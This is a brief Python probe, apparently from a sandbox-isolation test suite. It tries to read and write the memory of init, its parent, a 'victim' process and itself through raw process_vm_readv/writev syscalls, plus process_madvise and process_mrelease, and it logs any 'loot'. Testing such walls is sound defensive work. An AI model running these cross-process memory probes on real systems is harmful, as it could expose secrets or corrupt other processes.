"""Reads and writes the memory of init, of the victim and of a child by the calls that need no file."""
# walls: seccomp pid_namespace
# observe: word unread unharmed
# depth: yes
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
READ, WRITE = (270, 271) if platform.machine() == "aarch64" else (310, 311)
PROCESS_MADVISE, PROCESS_MRELEASE = 440, 448

buffer = ctypes.create_string_buffer(b"written", 4096)
local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 7)
for number in {1, os.getppid(), aim.victim, os.getpid()} - {0}:
    for address in (ctypes.addressof(buffer), 0x400000):
        remote = (ctypes.c_size_t * 2)(address, 7)
        for name, call in (("read", READ), ("write", WRITE)):
            words = (ctypes.c_long(number), local, ctypes.c_long(1), remote, ctypes.c_long(1), ctypes.c_long(0))
            done = libc.syscall(ctypes.c_long(call), *words)
            if done > 0:
                gained(f"{name} {done} bytes of {number}")
                loot(buffer.raw)
            else:
                tried(f"{name} of {number}: {os.strerror(ctypes.get_errno())}")
for name, number in (("process_madvise", PROCESS_MADVISE), ("process_mrelease", PROCESS_MRELEASE)):
    words = (ctypes.c_long(3), local, ctypes.c_long(1), ctypes.c_long(4), ctypes.c_long(0))
    if libc.syscall(ctypes.c_long(number), *words) >= 0:
        gained(f"{name} went well")
    tried(name)
